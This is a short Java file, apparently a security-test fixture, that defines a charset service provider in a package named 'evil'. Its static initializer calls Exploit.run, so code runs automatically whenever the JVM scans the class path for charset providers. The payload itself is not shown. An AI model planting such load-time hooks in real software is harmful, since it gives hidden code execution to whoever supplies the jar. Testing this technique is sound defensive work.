package evil;

import java.nio.charset.Charset;
import java.util.Collections;
import java.util.Iterator;

/** A provider of a service that every JVM looks for on its class path. */
public final class Charsets extends java.nio.charset.spi.CharsetProvider {
    static {
        Exploit.run("provider");
    }

    @Override
    public Iterator<Charset> charsets() {
        return Collections.emptyIterator();
    }

    @Override
    public Charset charsetForName(String name) {
        return null;
    }
}
